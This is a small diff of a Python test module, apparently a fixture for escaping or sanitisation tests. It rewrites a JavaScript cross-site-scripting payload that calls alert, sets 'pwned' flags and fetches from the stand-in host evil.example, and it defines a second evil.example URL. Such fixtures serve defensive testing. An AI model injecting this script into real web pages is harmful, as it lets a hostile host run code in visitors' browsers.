@@ -7,7 +7,7 @@
 from tests.hostile import Builder, Kind, add, kind, parts, piece, utf8
 
 SEEN = "見えている言葉"
-RUN = "parent.document.title=document.title='pwned';window.pwned=top.pwned=1;fetch('//evil.example/run');alert(1)"
+RUN = "alert(1);fetch(`//evil.example/run`);window.pwned=1;document.title=1;top.pwned=1"  # no quotes, no blanks
 CALL = "http://evil.example/call"
 
 ESCAPES: dict[str, str] = {
